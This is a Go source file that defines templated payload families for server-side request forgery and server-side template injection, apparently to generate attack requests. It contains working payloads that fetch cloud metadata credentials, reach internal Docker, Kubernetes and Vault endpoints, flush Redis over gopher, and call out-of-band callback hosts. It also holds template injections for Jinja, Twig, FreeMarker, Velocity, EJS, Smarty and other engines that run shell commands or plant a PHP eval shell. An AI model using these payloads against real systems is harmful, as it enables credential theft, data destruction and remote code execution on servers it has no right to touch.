package east

func forgeries() []family {
	hooks := one(`POST /v1/webhook_endpoints json
{"url":"§","events":["‹word›.paid"]}`, `POST /v2/import json
{"name":"‹word›","source":{"kind":"remote","href":"§"}}`, `PUT /v1/me json
{"name":"‹first›","avatar_url":"§"}`)
	fetch := one("GET /v1/unfurl?url=§", "GET /proxy?u=§&w=‹100..900›", "GET /api/pdf?page=§&format=A4", "GET /img/resize?src=§&h=‹50..500›")
	return []family{
		{name: "ssrf/metadata-aws-json", place: "json", reqs: hooks,
			vals: one("http://169.254.169.254/latest/meta-data/iam/security-credentials/‹|‹w6›-role›", "http://169.254.169.254/latest/user-data", "http://169.254.170.2/v2/credentials/‹uuid›", "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/api/token")},
		{name: "ssrf/metadata-aws-query", place: "query", reqs: fetch,
			vals: one("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/dynamic/instance-identity/document", "http://169.254.169.254:80/‹20..29›-01-01/meta-data/hostname", "//169.254.169.254/latest/meta-data/iam/info")},
		{name: "ssrf/metadata-others", place: "query json form xml", veils: "twice base64",
			vals: one("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://169.254.169.254/opc/v1/instance/", "http://169.254.169.254/metadata/v1.json", "http://metadata.tencentyun.com/latest/meta-data/")},
		{name: "ssrf/number-forms", place: "query json form graphql", veils: "twice",
			vals: one("http://2852039166/latest/meta-data/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/latest/", "http://0xA9.0xFE.0xA9.0xFE/", "http://2130706433:‹80|6379|9200›/", "http://017700000001/", "http://127.1:‹8000..9999›/", "http://0/‹w4›", "http://0x7f.1/admin")},
		{name: "ssrf/ipv6-forms", place: "query json form",
			vals: one("http://[::ffff:169.254.169.254]/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/", "http://[::1]:‹8000..9999›/admin", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[::]:22/", "http://[64:ff9b::a9fe:a9fe]/latest/")},
		{name: "ssrf/dns-tricks", place: "query json form", veils: "twice",
			vals: one("http://169.254.169.254.nip.io/latest/meta-data/", "http://127.0.0.1.nip.io:‹#4›/", "http://localtest.me/admin", "http://spoofed.‹oob›/", "http://make-127.0.0.1-rebind-169.254.169.254-rr.1u.ms/", "http://7f000001.a9fea9fe.rbndr.us/")},
		{name: "ssrf/authority-confusion", place: "query json form header", veils: "twice",
			vals: one("https://‹webhost›@169.254.169.254/latest/", "http://‹webhost›#@127.0.0.1:‹#4›/", "http://127.0.0.1:80\\@‹webhost›/", "http://‹slug›.com%2509@169.254.169.254/", "http://①⑥⑨。②⑤④。①⑥⑨。②⑤④/", "http://127。0。0。1/admin", "http://‹webhost›:80@localhost:‹6379|9200|2375›/")},
		{name: "ssrf/internal-services", place: "query json form graphql xml", veils: "base64",
			vals: one("http://localhost:2375/containers/json", "http://127.0.0.1:9200/_cat/indices", "http://127.0.0.1:6379/", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets", "https://10.0.0.1:10250/pods", "http://consul.service.consul:8500/v1/kv/?recurse", "http://localhost:15672/api/users", "http://127.0.0.1:8080/actuator/env", "http://vault:8200/v1/sys/seal-status", "http://localhost/server-status")},
		{name: "ssrf/schemes", place: "query json form xml graphql", veils: "twice",
			vals: one("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL", "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "ldap://‹oob›:389/‹w4›", "tftp://‹ip›:69/‹w4›", "jar:http://‹oob›/‹w4›.jar!/", "sftp://‹oob›:22/", "netdoc:///etc/passwd", "gopher://localhost:25/_HELO%20x%0AMAIL%20FROM")},
		{name: "ssrf/out-of-band", place: "query json form header",
			vals: one("http://‹w20›.oast.fun/‹w4›", "https://‹w24›.burpcollaborator.net", "//‹w16›.interact.sh/", "http://‹w12›.dnslog.cn", "http://‹x32›.canarytokens.example.oast.pro/‹w6›")},
		{name: "ssrf/html-to-pdf", place: "json form multipart",
			vals: one("<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=900></iframe>", "<link rel=attachment href=\"file:///etc/passwd\">", "<img src=\"http://127.0.0.1:‹#4›/admin\">", "<script>x=new XMLHttpRequest;x.open('GET','file:///etc/passwd');x.onload=()=>document.write(x.responseText);x.send()</script>")},
		{name: "ssrf/port-scan-form", place: "form",
			reqs: one("POST /integrations/test form\nwebhook=§&secret=‹W20›", "POST /xmlrpc/ping form\nsourceURI=§&targetURI=https://‹webhost›/"),
			vals: one("http://127.0.0.1:‹22|25|3306|5432|6379|11211|27017›", "http://10.‹0..250›.‹0..250›.‹1..250›:‹22|445|3389›/", "http://192.168.0.1/cgi-bin/luci", "http://localhost:‹22|3306|5984›/_all_dbs")},
		{name: "ssrf/header-host", place: "header",
			reqs: one("GET /\n> x-forwarded-host: §", "GET /reset\n> x-original-host: §", "POST /v1/password/forgot json\n> x-forwarded-server: §\n{\"email\":\"‹mail›\"}", "GET /v1/me\n> referer: http://§/"),
			vals: one("169.254.169.254", "‹w20›.oast.fun", "‹w20›.burpcollaborator.net", "127.0.0.1:‹#4›@‹oob›")},
	}
}

func templates() []family {
	return []family{
		{name: "ssti/arithmetic-probe", place: anywhere, veils: "twice uescape",
			vals: one("{{‹sum›}}", "${‹sum›}", "<%= ‹sum› %>", "#{‹sum›}", "{{‹1..9›*'‹1..9›'}}", "*{‹sum›}", "@(‹sum›)", "${{‹sum›}}", "{‹sum›}${‹sum›}{{‹sum›}}", "‹v›{{‹sum›}}", "[[${‹sum›}]]")},
		{name: "ssti/polyglot", place: fields,
			vals: one("${{<%[%'\"}}%\\.", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}*{7*7}", "a{{bcd.‹w4›}}}}%><%=‹sum›%>${‹sum›}")},
		{name: "ssti/jinja", place: anywhere, veils: "twice base64",
			vals: one("{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__.os.popen('‹cmd›').read()}}", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{c('‹cmd›',shell=True)}}{% endif %}{% endfor %}", "{{request.application.__globals__.__builtins__.__import__('os').popen('‹cmd›').read()}}", "‹v›{{lipsum.__globals__['os'].popen('‹cmd›').read()}}")},
		{name: "ssti/jinja-no-dots", place: strict, veils: "twice",
			vals: one("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}", "{%with a=request['application']['\\x5f\\x5fglobals\\x5f\\x5f']%}{{a}}{%endwith%}", "{{(self|attr('_TemplateReference__context')).cycler}}", "{%print(lipsum|attr(request.args.g))%}")},
		{name: "ssti/twig", place: strict, veils: "twice",
			vals: one("{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('‹cmd›')}}", "{{['‹cmd›']|filter('system')}}", "{{['id',0]|sort('passthru')|join}}", "{{'/etc/passwd'|file_excerpt(1,30)}}", "{{app.request.server.all|join(',')}}")},
		{name: "ssti/freemarker", place: strict, veils: "twice",
			vals: one("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"‹cmd›\")}", "${\"freemarker.template.utility.Execute\"?new()(\"‹cmd›\")}", "[#assign e='freemarker.template.utility.ObjectConstructor'?new()]", "${product.getClass().getProtectionDomain().getCodeSource()}")},
		{name: "ssti/velocity", place: strict,
			vals: one("#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('‹cmd›')", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('‹cmd›')", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)")},
		{name: "ssti/erb-slim-haml", place: strict, veils: "twice",
			vals: one("<%= system('‹cmd›') %>", "<%= ‹tick›‹cmd›‹tick› %>", "<%= File.open('/etc/passwd').read %>", "#{%x(‹cmd›)}", "<%= IO.popen('‹cmd›').readlines() %>")},
		{name: "ssti/smarty-blade-php", place: strict,
			vals: one("{php}echo ‹tick›‹cmd›‹tick›;{/php}", "{system('‹cmd›')}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'<?php eval($_GET[1]);?>',self::clearConfig())}", "@php(system('‹cmd›'))", "{{ system('‹cmd›') }}", "{if phpinfo()}{/if}")},
		{name: "ssti/handlebars-pug-ejs", place: "json form graphql query",
			vals: one("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |c|}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}", "#{root.process.mainModule.require('child_process').execSync('‹cmd›')}", "<%- global.process.mainModule.require('child_process').execSync('‹cmd›') %>", "- var x = global.process.mainModule.require\n= x('child_process').execSync('‹cmd›')")},
		{name: "ssti/go-mako-tornado-razor", place: strict,
			vals: one("{{printf \"%s\" .System}}{{.Exec \"‹cmd›\"}}", "<%import os;x=os.popen('‹cmd›').read()%>${x}", "{%import os%}{{os.popen('‹cmd›').read()}}", "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c ‹wincmd›\");}", "${self.module.cache.util.os.system('‹cmd›')}", "{{call .Call \"‹cmd›\"}}{{html \"‹w4›\"}}")},
		{name: "ssti/thymeleaf", place: "query path form",
			vals: one("__${T(java.lang.Runtime).getRuntime().exec('‹cmd›')}__::.x", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('‹cmd›').getInputStream()).next()}__::.‹w1›", "[[${T(java.lang.System).getenv()}]]", "~{::__${‹sum›}__}")},
		{name: "ssti/name-field-mail", place: "json form",
			vals: one("‹first› {{‹sum›}}", "‹surname›${T(java.lang.System).getenv()}", "‹first› {{self.__init__.__globals__}}", "Dear {{constructor.constructor('return process.env')()}}")},
	}
}
